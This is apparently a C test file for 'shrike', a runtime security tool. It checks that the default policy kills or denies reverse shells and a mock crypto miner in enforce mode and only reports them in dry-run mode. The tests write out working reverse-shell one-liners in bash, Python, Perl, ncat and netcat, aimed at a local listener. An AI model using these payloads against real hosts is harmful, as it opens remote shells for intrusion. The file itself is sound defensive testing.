/* SPDX-License-Identifier: Apache-2.0 */
/*
 * System tier for `shrike run` with no --policy: shrike's own rules plus
 * policies/default.yaml. Reverse shells and miners are denied in the kernel
 * and their trees killed in enforce mode (the responses say done and the
 * process is gone); with --dry-run
 * the same attacks are only reported (would) and the miner keeps running.
 * Needs root.
 */
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>

#include "runlib.h"
#include "testlib.h"

static char *dir;
static int port;

/* A long-running "miner" (a renamed sleep); returns its pid. */
static pid_t start_miner(void)
{
	char bin[1100];
	pid_t p;

	snprintf(bin, sizeof(bin), "%s/xmrig", dir);
	p = fork();
	if (p == 0) {
		execl(bin, "xmrig", "30", (char *)NULL);
		_exit(127);
	}
	return p;
}

static bool exited_by_sigkill(pid_t p, int ms)
{
	int st;

	for (int i = 0; i < ms / 10; i++) {
		if (waitpid(p, &st, WNOHANG) == p)
			return WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL;
		usleep(10 * 1000);
	}
	return false;
}

static int setup(void **state)
{
	char cmd[2200];

	dir = test_tmpdir();
	port = test_attacker_listener();
	snprintf(cmd, sizeof(cmd), "cp /bin/sleep %s/xmrig", dir);
	return system(cmd) ? -1 : 0;
}

static void test_enforce_kills_shells_and_miners(void **state)
{
	struct shrike_run run;
	const cJSON *a, *r;
	pid_t miner;
	bool killed;

	shrike_run_start(&run, dir, NULL);
	test_attack(dir, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port);
	miner = start_miner();
	killed = exited_by_sigkill(miner, 2000);
	if (!killed) {
		kill(miner, SIGKILL);
		waitpid(miner, NULL, 0);
	}
	shrike_run_stop(&run);

	/* "Reverse shell" is denied in the kernel (the shell is killed at
	 * exec); several reverse-shell rules also kill the tree: the first
	 * to act kills it, later ones find it gone. */
	int done = 0, gone = 0, other = 0, denied = 0;

	for (int i = 0; i < run.nalerts; i++) {
		const char *tags = cJSON_PrintUnformatted(cJSON_GetObjectItem(run.alerts[i], "tags"));
		const cJSON *resp = cJSON_GetObjectItem(run.alerts[i], "response");

		if (tags && strstr(tags, "reverse_shell"))
			cJSON_ArrayForEach(r, resp) {
				const char *o = shrike_json_str(r, "outcome"), *e = shrike_json_str(r, "error");

				assert_string_equal(shrike_json_str(r, "mode"), "enforce");
				if (!strcmp(shrike_json_str(r, "action"), "deny")) {
					assert_string_equal(shrike_json_str(run.alerts[i], "rule"), "Reverse shell");
					assert_string_equal(shrike_json_str(r, "from"),
							    "Deny reverse shells in the kernel");
					assert_string_equal(o, "done");
					assert_non_null(strstr(shrike_json_str(r, "target"), "kernel"));
					denied++;
					continue;
				}
				assert_string_equal(shrike_json_str(r, "action"), "kill");
				assert_string_equal(shrike_json_str(r, "scope"), "process_tree");
				assert_string_equal(shrike_json_str(r, "from"), "Block reverse shells");
				if (!strcmp(o, "done"))
					done++;
				else if (!strcmp(o, "failed") && e && !strcmp(e, "target already exited"))
					gone++;
				else
					other++;
			}
		free((void *)tags);
	}
	fprintf(stderr, "reverse shell: %d denied in the kernel; tree kills: %d done, %d already "
		"gone, %d other\n", denied, done, gone, other);
	assert_true(denied >= 1);
	assert_true(done + gone >= 1);
	assert_int_equal(other, 0);

	a = shrike_run_find(&run, "Crypto miner started", "proc.name", "xmrig");
	r = shrike_response0(a);
	assert_non_null(r);
	assert_string_equal(shrike_json_str(r, "action"), "deny"); /* in the kernel, at exec */
	assert_string_equal(shrike_json_str(r, "outcome"), "done");
	assert_true(killed);
	shrike_run_free(&run);
}

static void test_dry_run_only_reports(void **state)
{
	const char *args[] = { "--dry-run", NULL };
	struct shrike_run run;
	const cJSON *a, *r;
	pid_t miner;
	bool killed;

	shrike_run_start(&run, dir, args);
	test_attack(dir, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port);
	miner = start_miner();
	killed = exited_by_sigkill(miner, 700);
	kill(miner, SIGKILL);
	waitpid(miner, NULL, 0);
	shrike_run_stop(&run);

	a = shrike_run_find(&run, "Reverse shell", "proc.cmdline", "bash -i");
	r = shrike_response0(a);
	assert_non_null(r);
	assert_string_equal(shrike_json_str(r, "mode"), "audit");
	assert_string_equal(shrike_json_str(r, "outcome"), "would");
	a = shrike_run_find(&run, "Crypto miner started", "proc.name", "xmrig");
	r = shrike_response0(a);
	assert_non_null(r);
	assert_string_equal(shrike_json_str(r, "outcome"), "would");
	assert_false(killed);
	shrike_run_free(&run);
}

/*
 * One reverse-shell attempt against a listener that, once connected, asks
 * the shell for a computed word: 1 if the shell answered (it ran a
 * command), 0 if it connected but never answered, -1 if nothing connected.
 */
static int shell_answers(const char *tmpl)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(a);
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c, answered = -1;
	char cmd[2048], buf[4096];
	size_t got = 0;
	pid_t p;

	assert_true(s >= 0);
	assert_int_equal(bind(s, (struct sockaddr *)&a, sizeof(a)), 0);
	assert_int_equal(listen(s, 4), 0);
	assert_int_equal(getsockname(s, (struct sockaddr *)&a, &len), 0);
	{
		/* tmpl with PORT replaced by the listener's port */
		const char *at = strstr(tmpl, "PORT");

		assert_non_null(at);
		snprintf(cmd, sizeof(cmd), "%.*s%d%s", (int)(at - tmpl), tmpl, ntohs(a.sin_port), at + 4);
	}
	p = fork();
	if (p == 0) {
		int null = open("/dev/null", O_RDWR);

		dup2(null, 0);
		dup2(null, 1);
		dup2(null, 2);
		setenv("HOME", dir, 1);
		execl("/usr/bin/timeout", "timeout", "5", "/bin/sh", "-c", cmd, (char *)NULL);
		_exit(127);
	}
	{
		struct pollfd pf = { .fd = s, .events = POLLIN };

		if (poll(&pf, 1, 3000) == 1 && (c = accept(s, NULL, NULL)) >= 0) {
			static const char probe[] = "echo SHK_$((6*7))_ANSWER\n";

			answered = 0;
			if (write(c, probe, sizeof(probe) - 1) == (ssize_t)sizeof(probe) - 1) {
				struct pollfd pc = { .fd = c, .events = POLLIN };

				while (got < sizeof(buf) - 1 && poll(&pc, 1, 1500) == 1) {
					ssize_t n = read(c, buf + got, sizeof(buf) - 1 - got);

					if (n <= 0)
						break;
					got += (size_t)n;
					buf[got] = '\0';
					if (strstr(buf, "SHK_42_ANSWER")) {
						answered = 1;
						break;
					}
				}
			}
			close(c);
		}
	}
	close(s);
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
	return answered;
}

static void test_reverse_shells_never_answer(void **state)
{
	/* the variants whose shell starts with the socket as its stdio:
	 * "Reverse shell" is denied in the kernel, at exec, so none of them
	 * may ever run a command (the others are killed in userspace) */
	static const char *const variants[] = {
		"bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'",
		"python3 -c 'import socket,subprocess,os;s=socket.socket();"
		"s.connect((\"127.0.0.1\",PORT));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
		"os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
		"perl -e 'use Socket;$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
		"if(connect(S,sockaddr_in($p,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");"
		"open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
		"ncat -e /bin/sh 127.0.0.1 PORT",
		"nc.traditional -e /bin/sh 127.0.0.1 PORT",
	};
	struct shrike_run run;
	int answers[5];

	/* without shrike the listener does get an answer: the probe works */
	assert_int_equal(shell_answers(variants[0]), 1);
	shrike_run_start(&run, dir, NULL);
	for (size_t i = 0; i < sizeof(variants) / sizeof(variants[0]); i++)
		answers[i] = shell_answers(variants[i]);
	shrike_run_stop(&run);
	for (size_t i = 0; i < sizeof(variants) / sizeof(variants[0]); i++) {
		fprintf(stderr, "variant %zu: %s\n", i,
			answers[i] == 1 ? "ANSWERED" : answers[i] == 0 ? "connected, no shell" : "no connection");
		assert_int_not_equal(answers[i], 1);
	}
	assert_non_null(shrike_run_find(&run, "Reverse shell", NULL, NULL));
	shrike_run_free(&run);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_enforce_kills_shells_and_miners),
		cmocka_unit_test(test_dry_run_only_reports),
		cmocka_unit_test(test_reverse_shells_never_answer),
	};

	test_require_root("the system tier (loads BPF sensors, kills processes)");
	if (access("/etc/shrike/policies", F_OK) == 0) {
		fprintf(stderr, "SKIP: /etc/shrike/policies exists and would replace the defaults under test\n");
		return TEST_SKIP;
	}
	return cmocka_run_group_tests(tests, setup, NULL);
}
